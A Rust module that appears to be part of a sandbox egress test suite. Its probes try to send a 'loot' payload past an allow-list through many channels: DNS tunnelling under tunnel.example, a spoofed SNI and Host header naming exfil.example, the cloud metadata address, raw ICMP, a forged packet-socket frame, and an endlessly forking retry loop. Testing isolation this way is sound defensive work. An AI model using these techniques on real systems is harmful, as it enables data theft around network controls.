//! Roads out that are not the allowed one.

use std::net::{SocketAddr, ToSocketAddrs};
use std::os::fd::RawFd;
use std::sync::Arc;

use nix::errno::Errno;
use rustls::pki_types::ServerName;
use rustls::{ClientConfig, ClientConnection, RootCertStore};

use crate::raw::{self, At, bytes_of, connect, hear, send, send_to, socket};
use crate::{Probe, Told};

const STREAM: i32 = libc::SOCK_STREAM;
const DGRAM: i32 = libc::SOCK_DGRAM;
const ALLOWED: &str = "api.together.xyz";
/// What is smuggled out.
const LOOT: &[u8] = b"loot";

pub(crate) const PROBES: &[(&str, Probe)] = &[
    ("tls-allowed", |_| hello(ALLOWED, 443, Some(ALLOWED))),
    ("say-to-allowed", say_to_allowed),
    ("spin", |_| spin()),
    ("tcp-literal", |_| tcp(libc::AF_INET, 0, "1.1.1.1:443")),
    ("tcp-other-name", |_| tcp_name("exfil.example", 443)),
    ("tcp-other-port", |_| tcp_name(ALLOWED, 8443)),
    ("tcp-mapped", |_| tcp(libc::AF_INET6, 0, "[::ffff:1.1.1.1]:443")),
    ("tcp-v6", |_| tcp(libc::AF_INET6, 0, "[2001:db8::53]:443")),
    ("tcp-metadata", |_| tcp(libc::AF_INET, 0, "169.254.169.254:80")),
    ("tcp-private", |_| tcp(libc::AF_INET, 0, "10.0.0.5:80")),
    ("tcp-mptcp", |_| tcp(libc::AF_INET, libc::IPPROTO_MPTCP, "1.1.1.1:443")),
    ("tcp-fastopen", |_| fastopen("1.1.1.1:443")),
    ("udp-sendto", |_| udp(libc::AF_INET, "1.1.1.1:443", LOOT)),
    ("udp-connected", |_| udp_connected("1.1.1.1:443")),
    ("udp-mapped", |_| udp(libc::AF_INET6, "[::ffff:1.1.1.1]:443", LOOT)),
    ("udp-v6", |_| udp(libc::AF_INET6, "[2606:4700:4700::1111]:53", LOOT)),
    ("quic-allowed-host", |_| quic()),
    ("dns-direct", |_| udp(libc::AF_INET, "8.8.8.8:53", &query("6c6f6f74.tunnel.example"))),
    ("dns-tunnel", |_| resolve("6c6f6f746c6f6f746c6f6f74.tunnel.example")),
    ("dns-tunnel-below-allowed", |_| resolve("6c6f6f74.api.together.xyz")),
    ("sni-other", |_| hello(ALLOWED, 443, Some("exfil.example"))),
    ("sni-none", |_| hello(ALLOWED, 443, None)),
    ("plain-http", |_| plain_http()),
    ("raw-icmp", |_| raw_icmp()),
    ("packet-socket", |_| packet_socket()),
    ("unix-abstract", |_| unix(b"\0isb-canary")),
    ("unix-path", |path| unix(path.as_bytes())),
    ("socket-udplite", |_| hold(libc::AF_INET, DGRAM, libc::IPPROTO_UDPLITE)),
    ("socket-ping", |_| hold(libc::AF_INET, DGRAM, libc::IPPROTO_ICMP)),
    ("socket-vsock", |_| hold(libc::AF_VSOCK, STREAM, 0)),
    ("socket-alg", |_| hold(libc::AF_ALG, libc::SOCK_SEQPACKET, 0)),
];

fn literal(address: &str) -> SocketAddr {
    address.parse().expect("a literal of this file")
}

fn hold(family: i32, kind: i32, protocol: i32) -> Told {
    socket(family, kind, protocol).map(|fd| format!("descriptor {fd}"))
}

fn tcp(family: i32, protocol: i32, address: &str) -> Told {
    tcp_to(family, protocol, literal(address))
}

fn tcp_to(family: i32, protocol: i32, address: SocketAddr) -> Told {
    let fd = socket(family, STREAM, protocol)?;
    connect(fd, &bytes_of(address))?;
    send(fd, LOOT)?;
    Ok(hear(fd))
}

fn lookup(name: &str, port: u16) -> Result<SocketAddr, raw::Failure> {
    let mut addresses = (name, port).to_socket_addrs().at("getaddrinfo")?;
    addresses.next().ok_or(Errno::ENXIO).at("getaddrinfo")
}

fn tcp_name(name: &str, port: u16) -> Told {
    tcp_to(libc::AF_INET, 0, lookup(name, port)?)
}

/// Bytes of the suite's choice, as the first ones to the allowed host.
fn say_to_allowed(text: &str) -> Told {
    let fd = socket(libc::AF_INET, STREAM, 0)?;
    connect(fd, &bytes_of(lookup(ALLOWED, 443)?))?;
    send(fd, text.as_bytes())?;
    Ok(hear(fd))
}

/// Leaves a child that tries the allowed road and two others without end.
fn spin() -> Told {
    // SAFETY: this program is single-threaded.
    if let nix::unistd::ForkResult::Child = unsafe { nix::unistd::fork() }.at("fork")? {
        loop {
            let _ = tcp(libc::AF_INET, 0, "1.1.1.1:443");
            let _ = udp(libc::AF_INET, "8.8.8.8:53", LOOT);
            let _ = hello(ALLOWED, 443, Some(ALLOWED));
        }
    }
    Ok("spinning".into())
}

fn resolve(name: &str) -> Told {
    lookup(name, 443).map(|address| address.to_string())
}

fn fastopen(address: &str) -> Told {
    let fd = socket(libc::AF_INET, STREAM, 0)?;
    send_to(fd, LOOT, &bytes_of(literal(address)), libc::MSG_FASTOPEN | libc::MSG_NOSIGNAL)?;
    Ok(hear(fd))
}

fn udp(family: i32, address: &str, data: &[u8]) -> Told {
    let fd = socket(family, DGRAM, 0)?;
    send_to(fd, data, &bytes_of(literal(address)), 0)?;
    Ok("sent".into())
}

fn udp_connected(address: &str) -> Told {
    let fd = socket(libc::AF_INET, DGRAM, 0)?;
    connect(fd, &bytes_of(literal(address)))?;
    send(fd, LOOT)?;
    Ok("sent".into())
}

fn quic() -> Told {
    let fd = socket(libc::AF_INET, DGRAM, 0)?;
    send_to(fd, LOOT, &bytes_of(lookup(ALLOWED, 443)?), 0)?;
    Ok("sent".into())
}

/// A DNS query for the TXT record of `name` (RFC 1035, section 4.1).
fn query(name: &str) -> Vec<u8> {
    let mut packet = vec![0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        packet.push(u8::try_from(label.len()).expect("labels of this file are short"));
        packet.extend(label.as_bytes());
    }
    packet.extend([0, 0, 16, 0, 1]);
    packet
}

/// Sends a ClientHello to `host`, with the server name `sni` or none, and listens for one answer.
fn hello(host: &str, port: u16, sni: Option<&'static str>) -> Told {
    let name = match sni {
        Some(name) => ServerName::try_from(name).expect("a DNS name"),
        // rustls sends no server name for an address (RFC 6066, section 3).
        None => ServerName::try_from("192.0.2.1").expect("an address"),
    };
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .expect("ring serves the default versions")
        .with_root_certificates(RootCertStore::empty())
        .with_no_client_auth();
    let mut tls = ClientConnection::new(Arc::new(config), name).expect("a valid configuration");
    let mut bytes = Vec::new();
    tls.write_tls(&mut bytes).at("hello")?;
    say(lookup(host, port)?, &bytes)
}

fn plain_http() -> Told {
    say(lookup(ALLOWED, 443)?, b"POST / HTTP/1.1\r\nHost: exfil.example\r\nContent-Length: 4\r\n\r\nloot")
}

fn say(address: SocketAddr, bytes: &[u8]) -> Told {
    let fd: RawFd = socket(libc::AF_INET, STREAM, 0)?;
    connect(fd, &bytes_of(address))?;
    send(fd, bytes)?;
    Ok(hear(fd))
}

fn checksum(bytes: &[u8]) -> u16 {
    let pairs = bytes.chunks(2).map(|pair| u32::from(pair[0]) << 8 | u32::from(*pair.get(1).unwrap_or(&0)));
    let mut sum: u32 = pairs.sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !u16::try_from(sum).expect("folded")
}

fn raw_icmp() -> Told {
    let fd = socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP)?;
    let mut echo = vec![8, 0, 0, 0, 0, 1, 0, 1];
    echo.extend(LOOT);
    let sum = checksum(&echo).to_be_bytes();
    echo[2..4].copy_from_slice(&sum);
    send_to(fd, &echo, &bytes_of(literal("1.1.1.1:0")), 0)?;
    Ok("sent".into())
}

/// A whole Ethernet frame on `lo`: IPv4, UDP, 192.0.2.1 to 1.1.1.1:443 (a frame from a local address would be dropped as forged).
fn packet_socket() -> Told {
    let fd = socket(libc::AF_PACKET, libc::SOCK_RAW, 0)?;
    let mut ip = vec![0x45, 0, 0, 32, 0, 0, 0x40, 0, 64, 17, 0, 0, 192, 0, 2, 1, 1, 1, 1, 1];
    let sum = checksum(&ip).to_be_bytes();
    ip[10..12].copy_from_slice(&sum);
    let mut frame = vec![0; 12];
    frame.extend([8, 0]);
    frame.extend(ip);
    frame.extend(4444u16.to_be_bytes());
    frame.extend(443u16.to_be_bytes());
    frame.extend([0, 12, 0, 0]); // length; checksum 0: none (RFC 768)
    frame.extend(LOOT);
    // struct sockaddr_ll (packet(7)): family, protocol, ifindex 1 (lo is the first of its namespace), hatype, pkttype, halen, addr.
    let mut address = Vec::new();
    address.extend((libc::AF_PACKET as u16).to_ne_bytes());
    address.extend(0x0800u16.to_be_bytes());
    address.extend(1i32.to_ne_bytes());
    address.extend([0, 0, 0, 6]);
    address.extend([0; 8]);
    send_to(fd, &frame, &address, 0)?;
    Ok("sent".into())
}

fn unix(name: &[u8]) -> Told {
    let fd = socket(libc::AF_UNIX, STREAM, 0)?;
    let mut address = (libc::AF_UNIX as u16).to_ne_bytes().to_vec();
    address.extend(name);
    connect(fd, &address)?;
    Ok("connected".into())
}
